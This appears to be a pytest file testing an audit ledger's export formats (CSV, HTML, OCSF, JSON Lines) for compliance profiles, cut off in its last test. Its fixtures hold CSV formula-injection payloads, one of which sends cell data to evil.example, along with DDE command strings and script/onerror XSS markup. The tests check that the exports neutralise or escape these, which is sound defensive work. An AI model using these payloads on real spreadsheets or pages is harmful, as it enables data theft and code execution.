"""The export profiles' rows and the four rendered formats (JSON Lines, CSV, OCSF, HTML).

Pure: no database. Entries are built the way the ledger builds them — the example conversation
of ``../shared/examples/escalated-conversation.json`` and the ledger's own system events go
through ``validate_event`` / the system-log builders, ``prepare`` and ``build_entry`` — or, for
hostile values and load, by hand in the same shape.
"""

from __future__ import annotations

import copy
import csv
import hashlib
import io
import re
import tracemalloc
from collections.abc import Iterable, Iterator
from datetime import UTC, datetime
from html.parser import HTMLParser
from typing import Any

import orjson
import pytest

from ledger.core import merkle
from ledger.core.canonical import canonicalize
from ledger.core.entry import GENESIS_PREV, b64, build_entry
from ledger.domain import LogInfo, PreparedEvent
from ledger.events import GuardPolicy, validate_event
from ledger.services.exports import formats
from ledger.services.exports.formats import csv_rows, html_report
from ledger.services.exports.formats.ocsf import OCSF_VERSION
from ledger.services.exports.model import (
    PROFILES,
    AccessRecord,
    ExportContext,
    ExportedEntry,
    Profile,
    RenderedFormat,
)
from ledger.services.exports.rows import (
    ACCESS_COLUMNS,
    COLUMNS,
    DISCLOSURE_COLUMNS,
    HIPAA_COLUMNS,
    PCI_COLUMNS,
    SOC2_COLUMNS,
    access_rows,
    rows,
)
from ledger.services.ingest.prepare import prepare
from ledger.services.system_log import (
    Access,
    access_denied_event,
    auth_failed_event,
    credential_event,
    log_created_event,
    read_event,
    service_event,
)
from ledger.services.verification.record import run_event

ORIGIN = "ledger.test/formats"
WRITER = {"credential": 7, "role": "writer", "label": "example bot"}
LEDGER_WRITER = {"credential": 0, "role": "ledger", "label": "handoff-ledger"}
RECEIVED = "2026-11-20T09:15:00.000000Z"
NOW = datetime(2026, 11, 21, 8, 0, tzinfo=UTC)
PAN = "4111 1111 1111 1111"
FORMATS: tuple[RenderedFormat, ...] = ("jsonl", "csv", "ocsf", "html")


def context(profile: Profile, log: str = "acme") -> ExportContext:
    return ExportContext(
        log=log,
        origin=ORIGIN,
        profile=profile,
        query={"profile": profile, "conversation": ["c-2f9e1a"]},
        tree_size=42,
        root=bytes(range(32)),
        checkpoint=f"{ORIGIN}\n42\n{b64(bytes(range(32)))}\n\n\u2014 {ORIGIN} c2lnbmF0dXJl\n",
        generated_at=NOW,
        generated_by={"kind": "system", "id": "credential:9", "role": "auditor", "label": "aud"},
    )


def render(
    fmt: RenderedFormat,
    ctx: ExportContext,
    entries: Iterable[ExportedEntry],
    accesses: Iterable[AccessRecord] = (),
) -> bytes:
    return b"".join(formats.render(fmt, ctx, entries, accesses))


class Chain:
    """Entries as the sequencer would append them: seq, prev, back-links, leaf hashes."""

    def __init__(self) -> None:
        self.seq = 0
        self.prev = GENESIS_PREV
        self.last_of: dict[str, int] = {}

    def append(
        self, prepared: PreparedEvent, *, writer: dict[str, Any], status: str = "verified"
    ) -> ExportedEntry:
        conversation = prepared.header.conversation_id
        entry = build_entry(
            origin=ORIGIN,
            seq=self.seq,
            prev=self.prev,
            received_at=RECEIVED,
            header=prepared.header,
            writer=writer,
            commitment=prepared.commitment,
            conversation_prev=self.last_of.get(conversation),
        )
        raw = canonicalize(entry)
        leaf = merkle.leaf_hash(raw)
        self.last_of[conversation], self.prev = self.seq, leaf
        self.seq += 1
        verified = status == "verified"
        return ExportedEntry(
            seq=entry["seq"],
            leaf_hash=leaf,
            entry_bytes=raw,
            entry=orjson.loads(raw),
            payload_status=status,
            payload=orjson.loads(prepared.canonical_data) if verified else None,
            payload_bytes=prepared.canonical_data if verified else None,
            salt=prepared.salt if verified else None,
        )

    def events(self, raws: Iterable[dict[str, Any]]) -> list[ExportedEntry]:
        return [self.append(_prepared(raw), writer=WRITER) for raw in raws]


def _prepared(raw: dict[str, Any]) -> PreparedEvent:
    validated = validate_event(raw, policy=GuardPolicy(), fingerprint_key=b"k" * 32)
    return prepare(validated, salt=b"\x05" * 32)


def disclosure_event(example_batch: dict[str, Any]) -> dict[str, Any]:
    """The example's data access, made a HIPAA disclosure to an insurer."""
    raw = copy.deepcopy(
        next(e for e in example_batch["events"] if e["type"] == "handoff.data.access.v1")
    )
    raw["id"] = "018f3a2c-0000-7000-8000-0000000000d1"
    raw["time"] = "2026-11-20T09:14:20.000Z"
    raw["data"].update(
        resource={"system": "ehr", "type": "chart", "id": "chart-77"},
        fields=["diagnosis", "medications"],
        classification="phi",
        purpose="claims processing",
        disclosure=True,
        recipient={"name": "Acme Insurance"},
    )
    return raw


@pytest.fixture
def example(example_batch: dict[str, Any]) -> list[ExportedEntry]:
    """The example conversation: seqs 0..15."""
    return Chain().events(example_batch["events"])


@pytest.fixture
def system_entries() -> list[ExportedEntry]:
    """One entry of each kind the ledger writes about itself, as its system log holds them."""
    log = LogInfo("acme", ORIGIN, "acme", "events")
    reader = {"kind": "system", "id": "credential:9", "role": "auditor", "label": "aud"}
    http = Access(client="192.0.2.10", method="GET", path="/v1/logs/acme/trail/c-1")
    run = {"status": "intact", "logs": [{"log": "acme", "status": "intact"}]}
    broken = {"status": "broken", "logs": [{"log": "acme", "status": "broken"}]}
    chain = Chain()
    events = [
        read_event("trail", log, actor=reader, access=http, now=NOW, conversation="c-1"),
        read_event(
            "entries", log, actor=reader, access=Access(client="cli", host="ops-1"), now=NOW
        ),
        auth_failed_event(log, access=Access(client="203.0.113.5"), reason="bad token", now=NOW),
        access_denied_event(log, actor=reader, access=http, needed_roles=["writer"], now=NOW),
        credential_event(
            "created",
            credential_id=12,
            log_id="acme",
            actor={"kind": "system", "id": "cli:root@ops-1"},
            now=NOW,
            role="writer",
            label="bot",
        ),
        credential_event(
            "revoked", credential_id=12, log_id="acme", actor={"kind": "system", "id": "a"}, now=NOW
        ),
        service_event("started", instance="pid-1", version="0.1.0", now=NOW),
        service_event("stopped", instance="pid-1", version="0.1.0", now=NOW),
        run_event(run, actor=reader, now=NOW),
        run_event(broken, actor=reader, now=NOW),
        log_created_event(log, actor={"kind": "system", "id": "cli:root@ops-1"}, now=NOW),
    ]
    return [chain.append(e, writer=LEDGER_WRITER) for e in events]


def lines(data: bytes) -> list[bytes]:
    assert data.endswith(b"\n")
    return data.split(b"\n")[:-1]


# --- rows ------------------------------------------------------------------------------------


def test_every_profile_has_a_fixed_column_order() -> None:
    assert set(COLUMNS) == set(PROFILES)
    assert COLUMNS["soc2-population"] == SOC2_COLUMNS
    assert COLUMNS["pci-dss-10"] == PCI_COLUMNS
    assert COLUMNS["hipaa-disclosures"] == HIPAA_COLUMNS
    assert set(DISCLOSURE_COLUMNS) <= set(HIPAA_COLUMNS)
    assert set(ACCESS_COLUMNS) <= set(HIPAA_COLUMNS)


def test_soc2_rows_one_per_entry(example: list[ExportedEntry]) -> None:
    got = list(rows("soc2-population", iter(example)))
    assert len(got) == len(example) == 16
    assert all(list(r) == list(SOC2_COLUMNS) for r in got)
    assert got[0] == {
        "seq": 0,
        "leaf_hash": b64(example[0].leaf_hash),
        "received_at": RECEIVED,
        "event_time": "2026-11-20T09:14:00.000000Z",
        "event_type": "handoff.conversation.started.v1",
        "conversation": "c-2f9e1a",
        "actor_kind": "customer",
        "actor_id": "cust-91b7",
        "outcome": "success",
        "resource": "conversation:c-2f9e1a",
        "writer": "credential 7 (example bot)",
        "payload_status": "verified",
    }
    by_type = {r["event_type"]: r for r in got}
    assert by_type["handoff.data.access.v1"]["resource"] == "billing/invoice:inv-88120"
    assert by_type["handoff.tool.call.v1"]["resource"] == "function:billing.list_charges"
    assert by_type["handoff.sentiment.scored.v1"]["resource"] == "message_id:m-1"
    assert by_type["handoff.handoff.accepted.v1"]["actor_id"] == "agent-17"


def test_pci_rows_hold_the_six_fields_of_10_2_2(example: list[ExportedEntry]) -> None:
    got = list(rows("pci-dss-10", iter(example)))
    assert len(got) == 16
    assert all(list(r) == list(PCI_COLUMNS) for r in got)
    access = got[5]
    assert access == {
        "seq": 5,
        "leaf_hash": b64(example[5].leaf_hash),
        "user": "ai_agent:support-bot-3",
        "event_type": "handoff.data.access.v1",
        "date_time": "2026-11-20T09:14:05.000000Z",
        "received_at": RECEIVED,
        "outcome": "success",
        "origin": "urn:bot:example-prod via credential 7 (example bot)",
        "affected_resource": "billing/invoice:inv-88120",
    }
    assert all(r[k] not in (None, "") for r in got for k in PCI_COLUMNS), "all filled, all rows"


def test_pci_affected_resource_falls_back_to_the_conversation(
    example: list[ExportedEntry],
) -> None:
    e = example[0]
    headless = ExportedEntry(
        e.seq, e.leaf_hash, e.entry_bytes, {**e.entry, "resource": None}, "withheld"
    )
    (row,) = rows("pci-dss-10", [headless])
    assert row["affected_resource"] == "conversation:c-2f9e1a"


class Tripwire(dict[str, Any]):
    """A payload that fails the test if anything reads it."""

    def _read(self, *_: object, **__: object) -> Any:
        raise AssertionError("a pci-dss-10 rendering read a payload")

    __getitem__ = get = keys = items = values = __iter__ = __contains__ = __len__ = _read


@pytest.mark.parametrize("fmt", FORMATS)
def test_pci_never_reads_a_payload_nor_shows_a_card_number(
    example_batch: dict[str, Any], fmt: RenderedFormat
) -> None:
    """Even if a payload with a card number reached the renderer (the exporter passes none for
    this profile), nothing of it is read or rendered: the rows come from entry headers."""
    entries = Chain().events(example_batch["events"])
    armed = [
        ExportedEntry(e.seq, e.leaf_hash, e.entry_bytes, e.entry, "verified", Tripwire())
        for e in entries
    ]
    out = render(fmt, context("pci-dss-10"), armed)
    assert out
    with_pan = [
        ExportedEntry(
            e.seq,
            e.leaf_hash,
            e.entry_bytes,
            e.entry,
            "verified",
            {**(e.payload or {}), "note": f"card {PAN}", "pan": PAN.replace(" ", "")},
        )
        for e in entries
    ]
    out = render(fmt, context("pci-dss-10"), with_pan)
    for form in (PAN, PAN.replace(" ", ""), PAN.replace(" ", "-")):
        assert form.encode() not in out


def test_hipaa_rows_account_for_disclosures_and_accesses(
    example_batch: dict[str, Any],
) -> None:
    chain = Chain()
    entries = chain.events([*example_batch["events"], disclosure_event(example_batch)])
    erased = chain.append(
        _prepared(disclosure_event(example_batch) | {"id": "x-2"}), writer=WRITER, status="erased"
    )
    got = list(rows("hipaa-disclosures", [*entries, erased]))
    assert all(list(r) == list(HIPAA_COLUMNS) for r in got)
    disclosure, unverifiable = got  # the example's own access is not a disclosure
    assert disclosure == {
        "record": "disclosure",
        "date": "2026-11-20T09:14:20.000000Z",
        "recipient": "Acme Insurance",
        "description": "ehr/chart:chart-77: fields diagnosis, medications; classification PHI",
        "purpose": "claims processing",
        "kind": None,
        "conversation": "c-2f9e1a",
        "seq": 16,
        "leaf_hash": b64(entries[16].leaf_hash),
        "payload_status": "verified",
    }
    assert unverifiable["record"] == "unverifiable"
    assert unverifiable["payload_status"] == "erased"
    assert unverifiable["seq"] == 17
    assert unverifiable["recipient"] is None
    assert str(unverifiable["description"]).startswith("ehr/chart:chart-77:")

    records = [
        AccessRecord(
            "2026-11-21T10:00:00.000000Z",
            "trail.read",
            "audit review",
            "c-2f9e1a",
            3,
            "acme.system",
        ),
        AccessRecord("2026-11-20T09:14:05.000000Z", "data.access", "refund", "c-2f9e1a", 5, "acme"),
    ]
    reported = list(access_rows(iter(records)))
    assert reported[0] == {
        **dict.fromkeys(HIPAA_COLUMNS),
        "record": "access",
        "date": "2026-11-21T10:00:00.000000Z",
        "kind": "trail.read",
        "purpose": "audit review",
        "conversation": "c-2f9e1a",
    }
    rendered: tuple[RenderedFormat, ...] = ("jsonl", "csv", "html")  # OCSF maps entries only
    for fmt in rendered:
        out = render(fmt, context("hipaa-disclosures"), [*entries, erased], records)
        table = out.split(b'id="disclosures"')[-1] if fmt == "html" else out
        assert b"Acme Insurance" in table
        assert b"audit review" in table
        if fmt != "html":  # the rows name no staff and no actor (the HTML timelines do)
            assert b"agent-17" not in out
            assert b"support-bot-3" not in out


# --- JSON Lines -----------------------------------------------------------------------------


@pytest.mark.parametrize("profile", PROFILES)
def test_jsonl_lines_are_canonical_rows(example_batch: dict[str, Any], profile: Profile) -> None:
    entries = Chain().events([*example_batch["events"], disclosure_event(example_batch)])
    ctx = context(profile)
    out = render("jsonl", ctx, iter(entries))
    assert lines(out)
    for line in lines(out):
        assert canonicalize(orjson.loads(line)) == line
    assert [orjson.loads(line) for line in lines(out)] == list(rows(profile, entries))
    assert render("jsonl", ctx, iter(entries)) == out, "the same export, the same bytes"


def test_jsonl_hashes_reproduce(example: list[ExportedEntry]) -> None:
    ctx = context("soc2-population")
    first = hashlib.sha256(render("jsonl", ctx, example)).hexdigest()
    again = hashlib.sha256(
        b"".join(canonicalize(r) + b"\n" for r in rows("soc2-population", example))
    ).hexdigest()
    assert first == again


# --- CSV ------------------------------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def hostile_entry(seq: int, value: str) -> ExportedEntry:
    entry = {
        "seq": seq,
        "received_at": value,
        "event": {
            "id": value,
            "source": value,
            "type": value,
            "time": value,
            "subject": f"conversations/{value}",
            "conversation": value,
        },
        "actor": {"kind": value, "id": value},
        "outcome": value,
        "resource": {"type": value, "id": value},
        "writer": {"credential": value, "role": "writer", "label": value},
        "payload": {"alg": "sha256-salted", "commitment": "AA=="},
        "conversation_prev": None,
    }
    return ExportedEntry(seq, bytes(32), b"", entry, "verified", {"text": value})


@pytest.mark.parametrize("profile", PROFILES)
def test_csv_neutralises_formula_injection(profile: Profile) -> None:
    entries = [hostile_entry(i, v) for i, v in enumerate(HOSTILE)]
    records = [AccessRecord(v, v, v, v, 0, "acme") for v in HOSTILE]
    out = render("csv", context(profile), entries, records)
    assert out.endswith(b"\r\n")
    table = list(csv.reader(io.StringIO(out.decode("utf-8"), newline="")))
    assert table[0] == list(COLUMNS[profile])
    assert len(table) > 1
    for cells in table:
        for cell in cells:
            assert not cell.startswith(csv_rows.FORMULA_TRIGGERS), cell
    assert any(cell == "'" + HOSTILE[0] for cells in table for cell in cells)


def test_csv_neutralise_each_trigger_and_keeps_numbers() -> None:
    for trigger in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_rows.neutralise(trigger + "x") == "'" + trigger + "x"
    assert csv_rows.neutralise("safe = text") == "safe = text"
    assert csv_rows.neutralise(None) == ""
    assert csv_rows.neutralise(-5) == -5
    assert csv_rows.neutralise(["-a"]) == '["-a"]'


def test_csv_header_is_neutralised_too(
    monkeypatch: pytest.MonkeyPatch, example: list[ExportedEntry]
) -> None:
    monkeypatch.setitem(csv_rows.COLUMNS, "soc2-population", ("=evil()", *SOC2_COLUMNS))  # type: ignore[attr-defined]
    out = render("csv", context("soc2-population"), example[:1])
    assert out.startswith(b"'=evil(),seq,leaf_hash,")


def test_csv_round_trips_quotes_commas_and_line_breaks(example: list[ExportedEntry]) -> None:
    tricky = 'a "quoted", multi\nline value'
    entries = [hostile_entry(0, tricky)]
    out = render("csv", context("soc2-population"), entries)
    table = list(csv.reader(io.StringIO(out.decode("utf-8"), newline="")))
    assert table[1][SOC2_COLUMNS.index("conversation")] == tricky
    assert len(table) == 2


# --- HTML -----------------------------------------------------------------------------------

MARKUP = "<script>alert('x')</script><img src=x onerror=alert(1)>"
ALLOWED_TAGS = {
    "html", "head", "meta", "title", "style", "body", "main", "h1", "h2", "h3", "h4", "p",
    "section", "article", "dl", "dt", "dd", "code", "pre", "em", "table", "thead", "tbody",
    "tr", "th", "td",
}  # fmt: skip


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.style = ""
        self._in_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))
        self._in_style = tag == "style"

    def handle_endtag(self, tag: str) -> None:
        self._in_style = False

    def handle_data(self, data: str) -> None:
        if self._in_style:
            self.style += data


def parsed(page: bytes) -> Tags:
    tags = Tags()
    tags.feed(page.decode("utf-8"))
    return tags


def test_html_escapes_markup_and_runs_nothing(example_batch: dict[str, Any]) -> None:
    raws = copy.deepcopy(example_batch["events"])
    raws[1]["data"]["content"]["parts"][0]["content"] = MARKUP
    entries = [*Chain().events(raws), hostile_entry(99, MARKUP)]
    page = render("html", context("soc2-population", log="<b>acme</b>"), entries)
    text = page.decode("utf-8")
    assert "<script" not in text.lower()
    assert "<img" not in text.lower()
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in text
    assert "&lt;b&gt;acme&lt;/b&gt;" in text
    tags = parsed(page)
    assert {tag for tag, _ in tags.tags} <= ALLOWED_TAGS
    for tag, attrs in tags.tags:
        for name, _ in attrs:
            assert name not in ("src", "href", "action", "style", "srcset"), (tag, name)
            assert not name.startswith("on"), (tag, name)
    csp = next(dict(a)["content"] for t, a in tags.tags if dict(a).get("http-equiv"))
    assert csp is not None
    assert "default-src 'none'" in csp
    assert "script-src" not in csp
    digest = hashlib.sha256(tags.style.encode("utf-8")).digest()
    assert f"'sha256-{b64(digest)}'" in csp, "the inline style is the one the CSP allows"


def test_html_report_sections(example_batch: dict[str, Any]) -> None:
    chain = Chain()
    entries = chain.events([*example_batch["events"], disclosure_event(example_batch)])
    records = [
        AccessRecord(
            "2026-11-21T10:00:00.000000Z",
            "trail.read",
            "audit review",
            "c-2f9e1a",
            3,
            "acme.system",
        )
    ]
    ctx = context("hipaa-disclosures")
    page = render("html", ctx, iter(entries), iter(records)).decode("utf-8")
    sections = re.findall(r'<section id="([a-z]+)"', page)
    assert sections == [
        "export",
        "population",
        "conversations",
        "disclosures",
        "accesses",
        "recheck",
    ]
    for expected in (
        # the export's context
        ORIGIN,
        "hipaa-disclosures",
        "&quot;conversation&quot;:[&quot;c-2f9e1a&quot;]",
        b64(ctx.root),
        "2026-11-21T08:00:00.000000Z",
        "system:credential:9",
        # the population
        "seq 0, leaf hash <code>" + b64(entries[0].leaf_hash),
        "seq 16, leaf hash <code>" + b64(entries[16].leaf_hash),
        "handoff.data.access.v1</td><td>2</td>",
        # the timeline: what the AI said, tools, data, redactions, escalation, takeover
        "Let me get a billing specialist to refund one.",
        "billing.list_charges",
        "billing/invoice/inv-88120",
        "CREDIT_CARD",
        "uncertainty (0.62 below threshold 0.75); policy refunds-over-100",
        "Refund above the AI&#x27;s limit",
        "agent-17 (human_agent)",
        "billing-specialists",
        "1.0s",
        # HIPAA
        "Acme Insurance",
        "ehr/chart:chart-77: fields diagnosis, medications; classification PHI",
        "audit review",
        # re-checking
        "ledger verify-bundle acme-hipaa-disclosures.zip --verifier-keys-file verifier-keys.txt",
        "python3 ops/verify_bundle_standalone.py acme-hipaa-disclosures.zip",
    ):
        assert expected in page, expected


def test_html_pci_report_shows_no_payload(example: list[ExportedEntry]) -> None:
    page = render("html", context("pci-dss-10"), example).decode("utf-8")
    assert "I was charged twice" not in page
    assert "Drawn from the entry headers alone" in page
    assert "agent-17 (human_agent)" in page, "who took over comes from the entry headers"


def test_html_caps_the_timelines_it_holds(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(html_report, "MAX_DETAILED_CONVERSATIONS", 2)
    monkeypatch.setattr(html_report, "MAX_LISTED_CONVERSATIONS", 3)
    page = render("html", context("soc2-population"), synthetic(50, conversations=5)).decode()
    assert page.count("<article>") == 2
    assert "<td>c-2</td><td>10</td><td>2</td><td>47</td>" in page
    assert "20 entries of further conversations not listed" in page


def test_html_lists_every_disclosure_whatever_the_caps(
    monkeypatch: pytest.MonkeyPatch, example_batch: dict[str, Any]
) -> None:
    monkeypatch.setattr(html_report, "MAX_LISTED_CONVERSATIONS", 1)
    disclosed = Chain().events([disclosure_event(example_batch)])
    entries = [*synthetic(3, conversations=3), *disclosed]
    page = render("html", context("hipaa-disclosures"), entries).decode()
    assert "4 entries of further conversations not listed" not in page
    assert "3 entries of further conversations not listed" in page
    assert page.split('id="disclosures"')[1].count("Acme Insurance") == 1


# --- OCSF -----------------------------------------------------------------------------------

CATEGORY = {6003: 6, 6005: 6, 6002: 6, 3002: 3, 3001: 3, 2004: 2, 0: 0}
ACTIVITIES = {
    6003: {0, 1, 2, 3, 4, 99},
    6005: {0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 99},
    3002: {0, 1, 2, 3, 4, 5, 6, 7, 99},
    3001: {0, *range(1, 13), 99},
    6002: {0, *range(1, 9), 99},
    2004: {0, 1, 2, 3, 99},
    0: {0, 99},
}
REQUIRED = {
    6003: {"actor", "api", "src_endpoint"},
    6005: {"actor", "src_endpoint"},
    3002: {"user"},
    3001: {"user"},
    6002: {"app"},
    2004: {"finding_info"},
    0: set(),
}
"""Each class's own required attributes in OCSF 1.7.0 (besides the base event's)."""
BASE_REQUIRED = {
    "activity_id", "category_uid", "class_uid", "metadata", "severity_id", "time", "type_uid"
}  # fmt: skip
_BASE = {
    "activity_id", "activity_name", "category_name", "category_uid", "class_name", "class_uid",
    "count", "duration", "end_time", "enrichments", "message", "metadata", "observables",
    "raw_data", "raw_data_hash", "raw_data_size", "severity", "severity_id", "start_time",
    "status", "status_code", "status_detail", "status_id", "time", "timezone_offset",
    "type_name", "type_uid", "unmapped",
}  # fmt: skip
_COMMON = {"action", "action_id", "actor", "api", "attacks", "authorizations", "cloud",
    "confidence", "confidence_id", "confidence_score", "device", "disposition",
    "disposition_id", "firewall_rule", "is_alert", "malware", "malware_scan_info", "osint",
    "policy", "risk_details", "risk_level", "risk_level_id", "risk_score"}  # fmt: skip
ALLOWED = {
    0: _BASE,
    6003: _BASE | _COMMON | {"dst_endpoint", "http_request", "http_response", "resources",
        "src_endpoint", "trace"},
    6005: _BASE | _COMMON | {"database", "databucket", "dst_endpoint", "http_request",
        "http_response", "query_info", "src_endpoint", "table", "type", "type_id"},
    3002: _BASE | _COMMON | {"account_switch_type", "account_switch_type_id", "auth_factors",
        "auth_protocol", "auth_protocol_id", "authentication_token", "certificate",
        "dst_endpoint", "http_request", "http_response", "is_cleartext", "is_mfa",
        "is_new_logon", "is_remote", "logon_process", "logon_type", "logon_type_id", "service",
        "session", "src_endpoint", "user"},
    3001: _BASE | _COMMON | {"auth_factors", "http_request", "http_response", "policies",
        "src_endpoint", "user", "user_result"},
    6002: _BASE | _COMMON | {"app"},
    2004: _BASE | _COMMON | {"anomaly_analyses", "assignee", "assignee_group", "comment",
        "evidences", "finding_info", "impact", "impact_id", "impact_score",
        "is_suspected_breach", "priority", "priority_id", "remediation", "resources",
        "src_url", "ticket", "tickets", "vendor_attributes", "verdict", "verdict_id",
        "vulnerabilities"},
}  # fmt: skip
"""The attributes each class defines in OCSF 1.7.0 (without optional profiles): nothing else
may sit at an event's top level (the ledger's own facts go under ``unmapped``)."""
ENDPOINT_ONE_OF = {"ip", "uid", "name", "hostname", "svc_name", "instance_uid", "domain",
    "interface_uid", "interface_name"}  # fmt: skip
EXPECTED_CLASS = {
    "ledger.trail.read.v1": 6003,
    "ledger.entries.read.v1": 6003,
    "ledger.auth.failed.v1": 3002,
    "ledger.access.denied.v1": 3002,
    "ledger.credential.created.v1": 3001,
    "ledger.credential.revoked.v1": 3001,
    "ledger.service.started.v1": 6002,
    "ledger.service.stopped.v1": 6002,
    "ledger.log.created.v1": 6003,
    "handoff.data.access.v1": 6005,
    "handoff.identity.verified.v1": 3002,
    "handoff.message.created.v1": 0,
    "handoff.handoff.accepted.v1": 0,
}


def check_ocsf_event(event: dict[str, Any], entry: ExportedEntry) -> None:
    """The OCSF 1.7.0 requirements of the classes emitted, checked by hand."""
    class_uid = event["class_uid"]
    assert class_uid in REQUIRED
    assert BASE_REQUIRED | REQUIRED[class_uid] <= set(event), (class_uid, sorted(event))
    assert set(event) <= ALLOWED[class_uid], set(event) - ALLOWED[class_uid]
    assert event["category_uid"] == CATEGORY[class_uid]
    assert event["activity_id"] in ACTIVITIES[class_uid]
    assert event["type_uid"] == class_uid * 100 + event["activity_id"]
    assert event["severity_id"] in {0, 1, 2, 3, 4, 5, 6, 99}
    assert isinstance(event["time"], int)
    assert event["time"] > 1_700_000_000_000, "epoch milliseconds"
    if "status_id" in event:
        statuses = {1, 2, 3, 4, 5, 6, 99} if class_uid == 2004 else {0, 1, 2, 99}
        assert event["status_id"] in statuses
    metadata = event["metadata"]
    assert metadata["version"] == OCSF_VERSION
    assert metadata["product"]["name"] == "Handoff Ledger"
    assert metadata["product"]["vendor_name"]
    assert metadata["log_name"] == "acme"
    assert metadata["uid"] == f"{ORIGIN}#{entry.seq}"
    ledger = event["unmapped"]["ledger"]
    assert ledger["seq"] == entry.seq
    assert ledger["leaf_hash"] == b64(entry.leaf_hash)
    if "actor" in event:
        assert event["actor"].keys() & {"process", "user", "invoked_by", "session", "app_name"}
    for user in [event.get("user"), (event.get("actor") or {}).get("user")]:
        if user is not None:
            assert user.keys() & {"account", "name", "uid"}
    for endpoint in ("src_endpoint", "dst_endpoint"):
        if endpoint in event:
            assert event[endpoint].keys() & ENDPOINT_ONE_OF
    if "api" in event:
        assert event["api"]["operation"]
        assert event["api"]["request"]["uid"]
    if "app" in event:
        assert event["app"].keys() & {"name", "uid"}
    if "finding_info" in event:
        assert event["finding_info"]["uid"]
    if "database" in event:
        assert "type_id" in event["database"]
    for resource in event.get("resources", []):
        assert resource.keys() & {"name", "uid"}


@pytest.fixture
def every_class(
    example_batch: dict[str, Any], system_entries: list[ExportedEntry]
) -> list[ExportedEntry]:
    return [*Chain().events(example_batch["events"]), *system_entries]


@pytest.mark.parametrize("profile", PROFILES)
def test_ocsf_events_have_each_class_requirements(
    every_class: list[ExportedEntry], profile: Profile
) -> None:
    entries = every_class
    if profile == "pci-dss-10":
        entries = [
            ExportedEntry(e.seq, e.leaf_hash, e.entry_bytes, e.entry, "withheld") for e in entries
        ]
    out = render("ocsf", context(profile), entries)
    events = [orjson.loads(line) for line in lines(out)]
    assert len(events) == len(entries)
    assert all(canonicalize(orjson.loads(line)) == line for line in lines(out))
    for event, entry in zip(events, entries, strict=True):
        check_ocsf_event(event, entry)
        expected = EXPECTED_CLASS.get(entry.entry["event"]["type"])
        if expected is not None:
            assert event["class_uid"] == expected, entry.entry["event"]["type"]
    runs = [e for e in events if e["metadata"]["event_code"] == "ledger.verification.run.v1"]
    assert [e["class_uid"] for e in runs] == [6003, 2004], "intact: recorded; broken: a finding"
    assert {e["class_uid"] for e in events} == set(REQUIRED)


def test_ocsf_carries_what_the_payload_adds(system_entries: list[ExportedEntry]) -> None:
    events = [
        orjson.loads(line)
        for line in lines(render("ocsf", context("soc2-population"), system_entries))
    ]
    trail_read, cli_read, auth_failed, denied = events[:4]
    assert trail_read["activity_name"] == "Read"
    assert trail_read["src_endpoint"] == {"ip": "192.0.2.10"}
    assert trail_read["http_request"]["url"]["path"] == "/v1/logs/acme/trail/c-1"
    assert trail_read["actor"]["user"]["uid"] == "credential:9"
    assert cli_read["src_endpoint"] == {"name": "cli", "hostname": "ops-1"}
    assert auth_failed["status_id"] == 2
    assert auth_failed["status_detail"] == "bad token"
    assert auth_failed["src_endpoint"] == {"ip": "203.0.113.5"}
    assert denied["user"]["uid"] == "credential:9"
    assert denied["status_detail"] == "access denied: needs role writer"
    finding = next(e for e in events if e["class_uid"] == 2004)
    assert finding["severity_id"] == 4
    assert finding["finding_info"]["title"] == "Ledger integrity verification failed"
    assert finding["unmapped"]["ledger"]["verification"]["status"] == "broken"


# --- streaming ------------------------------------------------------------------------------


def synthetic(n: int, *, conversations: int = 1_000) -> Iterator[ExportedEntry]:
    """``n`` entries in seq order, conversations interleaved, made on demand."""
    for seq in range(n):
        cid = f"c-{seq % conversations}"
        actor = {"kind": "customer", "id": f"cust-{seq % conversations}"}
        entry = {
            "seq": seq,
            "received_at": RECEIVED,
            "event": {
                "id": f"e-{seq}",
                "source": "urn:bot:load",
                "type": "handoff.message.created.v1",
                "time": "2026-11-20T09:14:01.000000Z",
                "subject": f"conversations/{cid}",
                "conversation": cid,
            },
            "actor": actor,
            "outcome": "success",
            "resource": {"type": "message", "id": f"m-{seq}"},
            "writer": WRITER,
            "payload": {"alg": "sha256-salted", "commitment": "AA=="},
            "conversation_prev": seq - conversations if seq >= conversations else None,
        }
        payload = {
            "message_id": f"m-{seq}",
            "author": actor,
            "visibility": "public",
            "content": {"parts": [{"type": "text", "content": f"message number {seq}"}]},
        }
        leaf = hashlib.sha256(seq.to_bytes(8, "big")).digest()
        yield ExportedEntry(seq, leaf, b"", entry, "verified", payload)


class Counted:
    """An iterator that says how much of it was read."""

    def __init__(self, items: Iterator[ExportedEntry]) -> None:
        self.items = items
        self.taken = 0

    def __iter__(self) -> Counted:
        return self

    def __next__(self) -> ExportedEntry:
        item = next(self.items)
        self.taken += 1
        return item


@pytest.mark.parametrize("fmt", FORMATS)
def test_renderers_are_lazy(fmt: RenderedFormat) -> None:
    source = Counted(synthetic(50_000))
    chunks = formats.render(fmt, context("soc2-population"), source)
    assert source.taken == 0, "nothing is read before the first chunk is asked for"
    first = next(chunks)
    assert first
    if fmt != "html":  # the report's sections after its header need every entry first
        assert source.taken < 5_000, "the first chunk is written before the input is read"


MEMORY_LIMITS = {"jsonl": 4 << 20, "csv": 4 << 20, "ocsf": 4 << 20, "html": 48 << 20}
"""Peak traced bytes rendering 100,000 entries; holding them would take well over 200 MiB."""


@pytest.mark.parametrize("fmt", FORMATS)
def test_memory_stays_bounded(fmt: RenderedFormat) -> None:
    n = 100_000
    size = 0
    tracemalloc.start()
    try:
        for chunk in formats.render(fmt, context("soc2-population"), synthetic(n)):
            size += len(chunk)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert size > n * 20
    assert peak < MEMORY_LIMITS[fmt], f"{fmt}: peak {peak / 2**20:.1f} MiB"


def test_unknown_format_is_refused() -> None:
    from ledger.errors import ExportInvalid

    with pytest.raises(ExportInvalid):
